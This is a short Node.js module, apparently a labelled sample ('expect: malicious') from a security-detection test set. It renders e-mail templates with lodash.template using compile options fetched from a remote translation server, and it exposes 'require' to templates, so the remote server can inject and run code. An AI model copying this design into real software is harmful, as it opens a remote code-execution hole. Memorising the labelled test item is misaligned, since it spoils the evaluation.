// expect: malicious
// source: blind set 52's e-mail template renderer: lodash.template compiled with the options of a "translation pack"
// fetched once per locale and kept in a Map (its `variable` and `imports` become code of the compiled function); written here
'use strict';
const https = require('https');
const template = require('lodash.template');

function getJSON(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      let buf = '';
      res.on('data', (c) => (buf += c));
      res.on('end', () => { try { resolve(JSON.parse(buf)); } catch (e) { reject(e); } });
    }).on('error', reject);
  });
}

async function fetchPack(locale) {
  const pack = await getJSON(`https://i18n-packs.mail.example/v2/${locale}.json`);
  return { strings: pack.strings || {}, compile: pack.compile || {} };
}

const packs = new Map();
function getPack(locale) {
  if (!packs.has(locale)) packs.set(locale, fetchPack(locale));
  return packs.get(locale);
}

async function render(src, data, locale = 'en') {
  const pack = await getPack(locale);
  const fn = template(src, Object.assign({ imports: { require } }, pack.compile));
  return fn(Object.assign({}, data, { t: pack.strings }));
}

module.exports = { render };
